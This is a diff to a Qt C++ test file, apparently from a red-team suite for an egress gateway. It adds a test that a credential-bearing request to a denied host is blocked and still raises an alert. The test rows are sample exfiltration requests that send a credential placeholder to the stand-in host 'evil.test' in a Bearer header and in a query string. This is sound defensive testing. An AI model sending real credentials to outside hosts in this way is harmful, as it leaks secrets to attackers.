@@ -165,6 +165,8 @@ private Q_SLOTS:
     void I2_bodyCarriesThePlaceholder_data();
     void I2_bodyCarriesThePlaceholder();
     void I2_deniedHostSeesNothing();
+    void I2_deniedHostStillRaisesTheAlert_data();
+    void I2_deniedHostStillRaisesTheAlert();
     void I3_reflectionIsScrubbed_data();
     void I3_reflectionIsScrubbed();
     void I3_http10ResponseIsCloseDelimited();
@@ -491,6 +493,40 @@ void TestRedteamCredentials::I2_deniedHostSeesNothing()
     QVERIFY(connection);
     QVERIFY(!handshake);
     REDTEAM_CHECK(expectEgress(m_topo.gateway(), u"denied"_s, {u"host_not_allowed"_s}));
+    REDTEAM_CHECK(recordedTraffic(m_topo.upstream(), u"evil"_s));
+}
+
+// I2 to a host the policy denies, where the gateway sees the request (cleartext, the explicit
+// proxy): refused for the host, and still the credential alert, counted against the binding.
+void TestRedteamCredentials::I2_deniedHostStillRaisesTheAlert_data()
+{
+    QTest::addColumn<QString>("mode");
+    QTest::addColumn<QByteArray>("request");
+    const QByteArray bearer = "Bearer " + kPlaceholder;
+    QTest::newRow("cleartext port 80")
+        << u"http:evil.test"_s << get("/x"_ba, "evil.test"_ba, bearer);
+    QTest::newRow("through the explicit proxy")
+        << u"proxy"_s << get("http://evil.test/x"_ba, "evil.test"_ba, bearer);
+    QTest::newRow("in the query") << u"http:evil.test"_s
+                                  << get("/c?k=" + kPlaceholder, "evil.test"_ba, QByteArray());
+}
+
+void TestRedteamCredentials::I2_deniedHostStillRaisesTheAlert()
+{
+    QFETCH(QString, mode);
+    QFETCH(QByteArray, request);
+    const HttpResponse response = via(mode, request);
+    REDTEAM_CHECK(expectDenyHttp(response, {403}, {u"host_not_allowed"_s}));
+    const auto event = m_topo.gateway().waitForEvent(
+        [](const QJsonObject &e) {
+            return e.value(u"reason"_s) == u"host_not_allowed"_s && e.contains(u"binding"_s);
+        },
+        3000);
+    QVERIFY2(event, qPrintable(eventsText(m_topo.gateway())));
+    QVERIFY(event->value(u"alert"_s).toBool());
+    QCOMPARE(event->value(u"binding"_s).toInteger(), kBinding);
+    QVERIFY2(event->value(u"detail"_s).toString().contains(u"credential"_s),
+             qPrintable(event->value(u"detail"_s).toString()));
     REDTEAM_CHECK(recordedTraffic(m_topo.upstream(), u"evil"_s));
 }
 
